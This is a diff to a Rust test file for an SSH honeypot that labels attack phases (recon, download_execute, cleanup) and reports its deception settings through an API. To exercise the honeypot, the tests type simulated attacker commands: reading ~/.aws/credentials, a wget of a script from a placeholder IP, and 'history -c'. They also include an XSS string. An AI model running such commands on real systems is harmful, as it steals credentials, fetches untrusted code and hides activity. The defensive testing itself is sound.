@@ -7,7 +7,7 @@ use std::time::Duration;
 
 use serde_json::Value;
 
-use crate::common::{NodeProcess, SshShell, http_request, poll_until};
+use crate::common::{NodeProcess, PgDatabase, SshShell, http_request, pg_addr, poll_until};
 
 /// A command line an attacker could type to attack the admin UI: HTML and an ANSI colour.
 const XSS: &str = "echo '<script>alert(\"x\")</script>' \u{1b}[31mred\u{1b}[0m";
@@ -47,7 +47,8 @@ fn listed(node: &NodeProcess, query: &str) -> Vec<String> {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_api_shows_a_real_ssh_session() {
-    let node = NodeProcess::start(&[]);
+    // Fixed Layer 3 settings (the defaults): the session announces them once, at its start.
+    let node = NodeProcess::start(&[("MIRAGE_STRATEGY_MODE", "fixed")]);
     let mut shell = SshShell::open(node.ssh).await;
     shell.run("cat ~/.aws/credentials").await;
     shell.run("uname -a").await;
@@ -131,6 +132,30 @@ async fn the_api_shows_a_real_ssh_session() {
     assert!(inputs.contains(&"uname -a"), "{inputs:?}");
     assert_eq!(detail["summary"]["session"], id.as_str());
     assert_eq!(detail["truncated"], false);
+    // Each class change carries the attack phase; the summary shows the latest one.
+    let classifications = detail["classifications"].as_array().unwrap();
+    assert!(!classifications.is_empty(), "{raw}");
+    const PHASES: [&str; 6] = [
+        "recon",
+        "credential_access",
+        "download_execute",
+        "persistence",
+        "lateral",
+        "cleanup",
+    ];
+    for c in classifications {
+        assert!(PHASES.contains(&c["phase"].as_str().unwrap_or("")), "{c}");
+    }
+    let latest_phase = &classifications.last().unwrap()["phase"];
+    assert_eq!(&summary["phase"], latest_phase, "{summary}");
+    // The settings in force, in the summary and as the detail's strategy changes.
+    let settings = "latency=none enticement=medium richness=standard errors=off vulnerable=never";
+    assert_eq!(summary["strategy"], settings, "{summary}");
+    let strategies = detail["strategies"].as_array().unwrap();
+    assert_eq!(strategies.len(), 1, "{raw}");
+    assert_eq!(strategies[0]["summary"], settings);
+    assert_eq!(strategies[0]["mode"], "fixed");
+    assert_eq!(strategies[0]["settings"]["latency"], "none");
     assert_eq!(
         detail["attacker_url"],
         format!("/api/sessions/{id}/attacker")
@@ -344,4 +369,57 @@ async fn a_restarted_node_closes_the_sessions_its_killed_run_left_open() {
         .find(|s| s["session"] == id.as_str())
         .expect("the old session is still listed");
     assert_eq!(old["closed"], true);
+}
+
+/// On PostgreSQL too, a real session's attack phase and deception settings reach its summary
+/// and detail: a download makes the phase `download_execute`, and a later `history -c`
+/// (cleanup) is what the summary ends with.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn phase_and_strategy_reach_the_api_on_postgres() {
+    let mut db = PgDatabase::create().await;
+    let url = db.url(pg_addr());
+    let node = NodeProcess::start(&[
+        ("MIRAGE_DATABASE_URL", &url),
+        ("MIRAGE_STRATEGY_MODE", "fixed"),
+        ("MIRAGE_STRATEGY_FIXED_ENTICEMENT", "high"),
+        // The rule labeller only: the phase is the tagged phase of the latest command.
+        ("MIRAGE_MODELS_DIR", "/nonexistent/models"),
+    ]);
+    let mut shell = SshShell::open(node.ssh).await;
+    shell.run("uname -a").await;
+    shell.run("cd /tmp; wget http://198.51.100.9/x.sh").await;
+    shell.run("history -c").await;
+    drop(shell);
+    let summary = tokio::task::block_in_place(|| {
+        poll_until(
+            Duration::from_secs(30),
+            || {
+                let page = json(&node, "/api/sessions");
+                let s = page["sessions"].as_array()?.first()?.clone();
+                (s["phase"] == "cleanup" && s["strategy"].is_string()).then_some(s)
+            },
+            || format!("no phase and strategy: {}", get(&node, "/api/sessions").2),
+        )
+    });
+    assert_eq!(
+        summary["strategy"],
+        "latency=none enticement=high richness=standard errors=off vulnerable=never"
+    );
+    let id = summary["session"].as_str().unwrap();
+    let detail = json(&node, &format!("/api/sessions/{id}"));
+    let phases: Vec<&str> = detail["classifications"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|c| c["phase"].as_str())
+        .collect();
+    assert_eq!(phases.first(), Some(&"recon"), "{detail}");
+    assert!(phases.contains(&"download_execute"), "{phases:?}");
+    assert_eq!(phases.last(), Some(&"cleanup"), "{phases:?}");
+    assert_eq!(detail["strategies"][0]["settings"]["enticement"], "high");
+    // The list filters by class as before, and shows the same row.
+    let class = summary["class"].as_str().unwrap();
+    assert!(listed(&node, &format!("class={class}")).contains(&id.to_owned()));
+    drop(node);
+    db.drop_now().await;
 }
